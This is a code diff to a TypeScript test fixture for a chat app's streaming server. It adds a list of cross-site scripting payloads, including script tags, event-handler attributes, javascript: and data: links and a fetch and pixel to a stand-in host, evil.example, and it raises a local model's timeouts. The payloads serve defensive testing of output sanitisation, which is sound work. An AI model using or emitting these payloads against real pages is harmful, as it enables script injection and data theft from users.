@@ -12,7 +12,23 @@ export const PROSE =
   'That is why this reply appears word by word, and why nothing is lost or repeated when the ' +
   'network hiccups.';
 
-export const PROSE_WORDS = PROSE.split(/\s+/).length;
+/** Model output that tries every way in: each must end up as text, or be stripped. */
+export const XSS_PAYLOADS = [
+  'Here is what you asked for:',
+  '<script>window.__pwned = "script"; fetch("http://evil.example/script")</script>',
+  "<img src=x onerror=\"window.__pwned='img'; alert('img')\">",
+  "<svg onload=\"window.__pwned='svg'\"><script>window.__pwned='svg-script'</script></svg>",
+  "[a javascript link](javascript:window.__pwned='link';alert(1))",
+  "[an encoded javascript link](jav&#x61;script:alert('encoded'))",
+  "![an image with a script](javascript:window.__pwned='image')",
+  '![a tracking pixel](http://evil.example/pixel.png)',
+  '<a href="javascript:window.__pwned=\'anchor\'">a raw anchor</a>',
+  '<iframe src="javascript:window.__pwned=\'iframe\'"></iframe>',
+  '[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '<details open ontoggle="window.__pwned=\'details\'">details</details>',
+  '[a safe link](https://example.com/docs)',
+  'That is all.',
+].join('\n\n');
 
 function config(serverName: string, serverEnv: ServerEnv) {
   return { serverName, serverEnv };
@@ -45,12 +61,23 @@ export const SERVERS = {
     SCRIPTED_CHUNK_DELAY_S: '0.03',
     ENABLE_STREAMING: 'false',
   }),
-  /** The real local model (SmolLM2-135M on llama.cpp), kept short. */
-  localModel: config('local-model', { LLM_MODEL: 'local', LLM_MAX_TOKENS: '24' }),
+  /**
+   * The real local model (SmolLM2-135M on llama.cpp), kept short. Loading it and reading the
+   * prompt can take longer than the 30 s idle timeout on a busy machine: allow more.
+   */
+  localModel: config('local-model', {
+    LLM_MODEL: 'local',
+    LLM_MAX_TOKENS: '24',
+    // Two llama.cpp threads on two cores shared with Chromium and another server crawl.
+    LOCAL_MODEL_THREADS: '1',
+    STREAM_IDLE_TIMEOUT_S: '150',
+  }),
   /** One message an hour per user. */
   rateLimited: config('rate-limited', {
     SCRIPTED_TEXT: 'Noted. That was your one message for this hour.',
     SCRIPTED_CHUNK_DELAY_S: '0.02',
     RATE_LIMIT_MESSAGES_PER_HOUR: '1',
   }),
+  /** Model output full of script injection attempts. */
+  xss: config('xss', { SCRIPTED_TEXT: XSS_PAYLOADS, SCRIPTED_CHUNK_DELAY_S: '0.01' }),
 } as const;
